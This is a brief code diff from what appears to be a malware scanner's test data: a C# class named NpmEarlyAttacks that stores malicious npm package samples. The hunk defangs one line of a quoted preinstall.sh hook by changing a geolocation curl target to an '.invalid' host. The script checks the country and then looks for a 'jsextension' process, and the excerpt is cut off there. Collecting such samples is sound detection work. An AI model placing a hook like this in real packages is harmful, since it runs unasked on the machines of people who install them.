@@ -94,7 +94,7 @@ internal static class NpmEarlyAttacks
 
                 """),
             ("preinstall.sh", """
-                IP=$(curl -k https://freegeoip.app/xml/ | grep 'RU\|UA\|BY\|KZ')
+                IP=$(curl -k https://freegeoip.invalid/xml/ | grep 'RU\|UA\|BY\|KZ')
                 if [ -z "$IP" ]
                 then
                   var=$(pgrep jsextension)
